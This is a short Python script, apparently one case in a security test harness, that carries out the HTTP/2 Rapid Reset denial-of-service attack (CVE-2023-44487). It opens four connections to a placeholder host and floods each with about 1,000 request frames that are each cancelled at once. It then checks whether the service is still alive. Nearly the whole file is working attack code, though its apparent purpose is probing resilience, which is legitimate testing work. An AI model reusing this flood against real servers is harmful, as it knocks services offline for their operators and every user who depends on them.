# SPDX-License-Identifier: Apache-2.0
# Trick: requests that are cancelled at once, 4,000 of them, on several connections
#	(CVE-2023-44487)
# Gain: the gate works for nobody
# Control: none, the world speaks no HTTP/2
from trick import *

look_up("key.example.com")
for _ in range(4):
    s = h2_open(KEY, "key.example.com")
    if not s:
        untried("no connection")
    block = hpack(h2_fields("key.example.com", "/reset"))
    flood = b"".join(frame(1, 5, n, block) + frame(3, 0, n, struct.pack("!I", 8)) for n in range(1, 2001, 2))
    say(s, flood)
    read(s, 0.2)
if not alive(10):
    escaped("nothing works any more")
stopped("the gate serves on")
